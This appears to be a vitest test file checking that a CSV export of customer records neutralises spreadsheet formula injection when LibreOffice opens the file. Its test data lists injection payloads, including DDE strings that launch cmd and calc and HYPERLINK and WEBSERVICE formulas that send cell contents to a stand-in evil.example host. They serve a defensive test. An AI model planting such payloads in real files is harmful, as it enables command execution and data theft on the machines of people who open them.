import { spawnSync } from 'node:child_process'
import { readFile, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { pathToFileURL } from 'node:url'
import { describe, expect, it } from 'vitest'
import type { EngagementRow } from '#messages/view.ts'
import { boardFile } from '#node/records/customers/board-file.ts'
import { findProgram } from '../../tools/system.mjs'
import { testFolder } from '../folder.ts'

const soffice = findProgram('soffice')

const AT = Date.parse('2026-11-27T09:00:00Z')
/** Names as a customer could have chosen them, each with how a spreadsheet has to show it. */
const NAMES: readonly (readonly [name: string, shown: string])[] = [
  ['Contoso', 'Contoso'],
  ['=1+1', "'=1+1"],
  [`=cmd|' /C calc'!A0 "quoted"`, `'=cmd|' /C calc'!A0 "quoted"`],
  ['=HYPERLINK("https://evil.example/?"&A1,"x")', `'=HYPERLINK("https://evil.example/?"&A1,"x")`],
  ['=WEBSERVICE("https://evil.example")', `'=WEBSERVICE("https://evil.example")`],
  ['=DDE("cmd";"/C calc";"x")', `'=DDE("cmd";"/C calc";"x")`],
  ['+1+1', "'+1+1"],
  ['-2+3', "'-2+3"],
  ['@SUM(1)', "'@SUM(1)"],
  ['\t=1+1', "' =1+1"],
  ['  =1+1', "'  =1+1"],
  ['a\r\n=1+1', 'a =1+1'],
  ['a,"b";=1+1', 'a,"b";=1+1'],
  ['a";"=1+1', 'a";"=1+1'],
  ['＝1+1', "'＝1+1"],
  ['\u202emבחן 👩‍💻', '\u202emבחן 👩‍💻'],
]

const row = (name: string, index: number): EngagementRow => ({
  id: `row-${index}`,
  customer: name,
  environment: name,
  environmentId: `e-${index}`,
  tenantId: 't',
  cloud: 'Azure',
  account: name,
  groups: [name],
  savedAt: AT,
  steps: ['verified'],
  state: { kind: 'encrypted' },
})

/** Has LibreOffice open a file, compute what it takes for formulas, and write what it then shows. */
function opened(folder: string, name: string, words: readonly string[] = []): Promise<string> {
  const profile = `-env:UserInstallation=${pathToFileURL(path.join(folder, 'profile'))}`
  const { status, stderr } = spawnSync(soffice ?? '', [profile, '--headless', ...words, '--convert-to', 'fods', name], {
    cwd: folder,
    encoding: 'utf8',
    timeout: 120_000,
  })
  if (status !== 0) throw new Error(`LibreOffice ended with ${status}: ${stderr}`)
  return readFile(path.join(folder, name.replace(/csv$/, 'fods')), 'utf8')
}

const UNESCAPED: Readonly<Record<string, string>> = { lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' }
const textOf = (xml: string): string =>
  xml
    .replaceAll(/^\s+|\s+$|\n\s*(?=<)/g, '')
    .replaceAll(/<text:s(?: text:c="(\d+)")?\/>/g, (_space, count: string | undefined) => ' '.repeat(Number(count ?? 1)))
    .replaceAll(/<[^>]*>/g, '')
    .replaceAll(/&(lt|gt|quot|apos|amp);/g, (_entity, name: string) => UNESCAPED[name] ?? '')

const cellsIn = (sheet: string) =>
  [...sheet.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].map(([, attributes = '', content = '']) => ({
    isComputed: attributes.includes('table:formula'),
    text: textOf(content),
  }))

describe.skipIf(soffice === undefined)('LibreOffice opens the list of customers', { timeout: 300_000 }, () => {
  it.each<[string, readonly string[]]>([
    ['as it opens any', []],
    ['told to compute formulas', ['--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true']],
    ['told that semicolons part its cells', ['--infilter=CSV:59,34,76,1,,0,false,true,false,false,false,-1,true']],
  ])('%s: no cell is computed', async (_, words) => {
    const folder = testFolder()
    // It computes what isn't defused: what follows says something.
    await writeFile(path.join(folder, 'plain.csv'), '\uFEFF"a"\r\n"=1+1"\r\n')
    expect(cellsIn(await opened(folder, 'plain.csv', words))).toContainEqual({ isComputed: true, text: '2' })
    const file = boardFile(
      NAMES.map(([name], index) => row(name, index)),
      'csv',
      AT,
    )
    await writeFile(path.join(folder, file.name), file.content)
    const cells = cellsIn(await opened(folder, file.name, words))
    expect(cells.filter(({ isComputed }) => isComputed)).toEqual([])
    if (words.some((word) => word.includes('CSV:59'))) return
    const texts = new Set(cells.map(({ text }) => text))
    for (const [, shown] of NAMES) expect(texts, shown).toContain(shown)
  })
})
